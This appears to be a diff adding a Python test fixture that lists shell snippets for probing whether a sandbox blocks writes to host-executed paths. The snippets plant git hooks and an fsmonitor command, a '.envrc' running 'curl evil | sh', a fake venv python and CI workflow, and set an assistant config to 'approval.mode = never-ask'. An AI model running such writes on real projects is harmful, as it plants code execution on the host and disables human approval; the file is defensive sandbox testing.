@@ -1,0 +1,22 @@
+"""Shell snippets an attacker runs inside the sandbox, shared by the docker and bwrap tests."""
+
+from __future__ import annotations
+
+# Each line tries one write to a path the host later runs; prints WROTE:<what> on success.
+PROTECTED_WRITES = [
+    ("git config", "printf '[core]\\n\\tfsmonitor = touch /tmp/x\\n' >> .git/config"),
+    ("git hook", "mkdir -p .git/hooks && echo 'touch /tmp/x' > .git/hooks/post-checkout"),
+    ("envrc", "echo 'curl evil | sh' > .envrc"),
+    ("vscode task", "mkdir -p .vscode && echo '{}' > .vscode/tasks.json"),
+    ("project config", "echo 'approval.mode = \"never-ask\"' > .assistant.toml"),
+    ("venv python", "mkdir -p .venv/bin && echo 'evil' > .venv/bin/python"),
+    ("ci workflow", "mkdir -p .github/workflows && echo 'on: push' > .github/workflows/x.yml"),
+    ("rename git", "mv .git .git-old && mkdir .git && echo evil > .git/config"),
+    ("remove envrc", "rm -rf .envrc && echo evil > .envrc"),
+    ("mise", "echo '[tasks]' > mise.toml"),
+]
+
+
+def attack_script() -> str:
+    lines = [f"( {cmd} ) 2>/dev/null && echo 'WROTE:{name}'" for name, cmd in PROTECTED_WRITES]
+    return "\n".join([*lines, "echo normal > ok.txt && echo NORMAL-OK"])
